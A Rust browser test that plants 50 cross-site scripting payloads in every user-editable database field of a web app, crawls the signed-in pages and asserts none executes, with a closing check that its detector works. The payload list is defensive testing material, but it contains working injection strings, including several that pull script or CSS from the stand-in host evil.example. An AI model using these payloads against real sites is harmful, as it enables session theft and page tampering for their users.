//! Names that would like to be scripts: they stand in every text that people can write, on every page, in a real browser.
//! None runs, and none comes so far that the content policy has to stop it.

use std::collections::{BTreeSet, VecDeque};

use seatbook::demo;
use serde_json::json;

use crate::{
    accessibility::{LINKS, OPERATOR, places},
    harness::Engine,
    routes,
    stage::Stage,
    visitor::{Look, Visitor},
};

/// What is tried, in the places that a name can come to: text, attributes in either quotes, addresses, scripts, styles.
const PAYLOADS: [&str; 50] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\">",
    "<img/src/onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\">",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#115;cript:alert(1)\">x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)></select>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x)'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "` onmouseover=alert(1) `",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "javascript:alert(1)",
    "${alert(1)}{{alert(1)}}<%= alert(1) %>",
    "\u{202E}<img src=x onerror=alert(1)>\u{0}",
];

/// Texts that people write, and that some page shows.
const TEXTS: [(&str, &[&str]); 18] = [
    (
        "organization",
        &["name", "reference", "website", "tax_id", "note"],
    ),
    ("role", &["name"]),
    ("person", &["name"]),
    ("session", &["user_agent"]),
    ("api_token", &["name"]),
    ("product", &["code", "name", "unit", "units", "reference"]),
    (
        "sku",
        &["code", "name", "type", "tier", "class", "reference"],
    ),
    (
        "license",
        &["name", "note", "sales_order", "support_reference"],
    ),
    ("pool", &["sales_order", "sku_code"]),
    ("holder", &["name", "serial", "reference"]),
    ("unit_request", &["note", "answer"]),
    ("service_plan", &["code", "name"]),
    ("mail", &["to_name", "subject"]),
    ("job", &["title", "message"]),
    ("import_batch", &["file_name"]),
    (
        "billing_profile",
        &["legal_name", "street", "city", "buyer_reference"],
    ),
    ("offboarding", &["contact", "reason"]),
    ("statement", &["file_name"]),
];

/// Before anything of a page: who would run says so, and so does the policy that stops somebody.
const LISTEN: &str = "window.heard = [];
    for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = () => heard.push(name);
    document.addEventListener('securitypolicyviolation',
        event => heard.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));";
/// What ran, what was stopped, and what has become part of the page that is none of ours. A script's address is one only
/// in an attribute that is followed: a label may well begin with it.
const HEARD: &str = "const followed =
        ['href', 'xlink:href', 'src', 'srcset', 'srcdoc', 'action', 'formaction', 'data', 'poster', 'background', 'ping'];
    const foreign = [...document.querySelectorAll('*')].filter(it =>
        [...it.attributes].some(a => a.name.startsWith('on')
            || followed.includes(a.name) && /^\\s*javascript:/i.test(a.value))
        || it.matches('iframe, object, embed, base, marquee, script:not([src]), style, meta[http-equiv=refresh]'));
    return [...heard, ...foreign.map(it => it.outerHTML.slice(0, 200))]";

/// Puts a payload into every text; which, follows from the row. Each is made its row's own, as some have to differ.
async fn poison(stage: &Stage) {
    stage
        .app
        .tamper("CREATE TABLE payload (n INTEGER PRIMARY KEY, text TEXT)")
        .await;
    for (n, payload) in PAYLOADS.iter().enumerate() {
        let payload = payload.replace('\'', "''").replace('\0', "");
        let row = format!("INSERT INTO payload (n, text) VALUES ({n}, '{payload}')");
        stage.app.tamper(&row).await;
    }
    for (table, columns) in TEXTS {
        let id = match table {
            "billing_profile" => "organization_id",
            _ => "id",
        };
        for (place, column) in columns.iter().enumerate() {
            let digit =
                |at: usize| format!("instr('123456789ABCDEF', substr(hex({table}.{id}), {at}, 1))");
            let chosen = format!(
                "({} + 16 * {} + {}) % {}",
                digit(31),
                digit(32),
                place * 7,
                PAYLOADS.len()
            );
            let poisoned = format!(
                "UPDATE {table} SET {column} = (SELECT text FROM payload WHERE n = {chosen}) || substr(hex({id}), 24)"
            );
            stage.app.tamper(&poisoned).await;
        }
    }
    stage.app.tamper("DROP TABLE payload").await;
}

/// What a page did that none should.
async fn heard_at(visitor: &Visitor, path: &str) -> Vec<String> {
    visitor.opens(path).await;
    let heard = visitor.runs(HEARD).await;
    let heard = heard.as_array().expect("a list").clone();
    heard.iter().map(|it| format!("{path}: {it}")).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_name_is_a_script() {
    let stage = Stage::demo(Engine::Sqlite).await;
    let (_, signed_in) = places(&stage).await;
    poison(&stage).await;
    let visitor = stage.visitor(Look::Light).await;
    visitor
        .tells(
            "Page.addScriptToEvaluateOnNewDocument",
            json!({"source": LISTEN}),
        )
        .await;
    visitor.signs_in(OPERATOR, demo::PASSWORD).await;
    let (routes, mut seen) = (routes::pages(), BTreeSet::new());
    let (mut open, mut trouble) = (VecDeque::from(signed_in), Vec::new());
    let mut poisoned = 0;
    while let Some(path) = open.pop_front() {
        let Some(route) = routes::of(&path, &routes) else {
            continue;
        };
        if !seen.insert(route.clone()) {
            continue;
        }
        trouble.extend(heard_at(&visitor, &path).await);
        let shows = visitor
            .runs("return document.body.innerText.includes('alert(1)')")
            .await;
        poisoned += usize::from(shows == json!(true));
        let links = visitor.runs(LINKS).await;
        let links = links.as_array().expect("links").iter();
        open.extend(links.filter_map(|link| link.as_str()).map(str::to_owned));
    }
    assert!(trouble.is_empty(), "{}", trouble.join("\n"));
    assert!(
        seen.len() > 60 && poisoned > 40,
        "{poisoned} of {} pages show any",
        seen.len()
    );
    // What hears nothing proves something only if it can hear.
    visitor
        .runs("document.body.innerHTML += '<img src=x onerror=alert(1)>'")
        .await;
    let heard = async || {
        visitor
            .runs(HEARD)
            .await
            .as_array()
            .map(Vec::len)
            .filter(|count| *count > 0)
    };
    assert!(visitor.until(heard).await.is_some());
    drop(visitor);
    stage.end().await;
}
